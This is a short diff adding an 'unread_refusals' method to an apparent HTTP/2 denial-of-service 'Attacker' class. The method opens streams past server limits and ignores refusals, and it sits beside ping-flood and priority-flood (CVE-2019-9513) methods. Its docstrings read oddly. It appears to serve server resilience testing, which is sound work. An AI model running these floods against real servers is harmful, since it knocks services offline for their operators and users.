@@ -97,6 +97,11 @@ class Attacker:
         ping = frame(PING, 0, 0, bytes(8))
         return self._flood("ping-floods", "frames", 4, 500000, {"reads": False}, lambda _: ping)
 
+    def unread_refusals(self) -> Report:
+        """Streams beyond the server's limits, of who has not heard of them and does not read that they are refused."""
+        return self._flood("unread-refusals", "streams", 2, 1000000, {"acknowledges": False, "reads": False},
+                           lambda connection: frame(HEADERS, END_HEADERS, connection.next_stream()))
+
     def priority_floods(self) -> Report:
         """Priorities of a stream that is told to depend on ever another (CVE-2019-9513)."""
         return self._flood("priority-floods", "frames", 4, 200000, {}, lambda connection: frame(
